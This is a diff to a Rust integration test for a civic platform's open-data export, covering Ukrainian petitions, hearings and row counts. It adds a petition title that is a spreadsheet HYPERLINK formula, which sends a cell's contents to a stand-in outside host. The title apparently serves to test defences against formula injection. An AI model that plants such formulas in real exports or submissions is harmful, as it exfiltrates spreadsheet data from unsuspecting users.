@@ -15,6 +15,7 @@ use testkit::NatsServer;
 
 const TITLE: &str = "Сквер «Дружба», \"зелена\" зона";
 const TEXT: &str = "Просимо:\n1) лавки;\n2) ліхтарі, урни.";
+const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Підписати\")";
 
 /// Runs the reader script against the association; its JSON output.
 fn read_open_data(url: &str) -> serde_json::Value {
@@ -45,6 +46,9 @@ async fn every_open_data_file_parses_and_matches_the_grpc_figures() {
     v.consider(&square).await;
     v.answer(&square, nodepb::AnswerDecision::Supported).await;
     v.file_and_reject("Перейменувати річку").await;
+    // A title a spreadsheet would run as a formula.
+    let formula = v.file_text(FORMULA, "Текст.", "інше").await;
+    v.publish(&formula).await;
     let hearing = v
         .dialogue(nodepb::DialogueKind::PublicHearing, &vinnytsia.clock, 1)
         .await;
@@ -83,17 +87,18 @@ async fn every_open_data_file_parses_and_matches_the_grpc_figures() {
     let opened = projection::statement::Statement::open(note, &witness).expect("it verifies");
     assert_eq!(hex::encode(opened.digest), stated.digest);
 
-    // Row counts: two hromadas; three petitions published or not (Vinnytsia's two, Koriukivka's
+    // Row counts: two hromadas; four petitions published or not (Vinnytsia's three, Koriukivka's
     // one: the rejected one is a petition too); the catalogue's public entries.
     let rows = &read["rows"];
     assert_eq!(rows["hromadas"], 2);
-    assert_eq!(rows["petitions"], 3);
+    assert_eq!(rows["petitions"], 4);
     assert_eq!(rows["dialogues"], 1);
     assert_eq!(rows["plans"], 1);
     assert_eq!(rows["commitments"], 1);
     assert_eq!(rows["milestones"], 1);
-    // The square, the bridge, the hearing and the commitment (not the rejected petition).
-    assert_eq!(rows["practices"], 4);
+    // The square, the formula, the bridge, the hearing and the commitment (not the rejected
+    // petition).
+    assert_eq!(rows["practices"], 5);
 
     // The hromadas table equals the gRPC figures, field by field.
     let mut national = association.national().await;
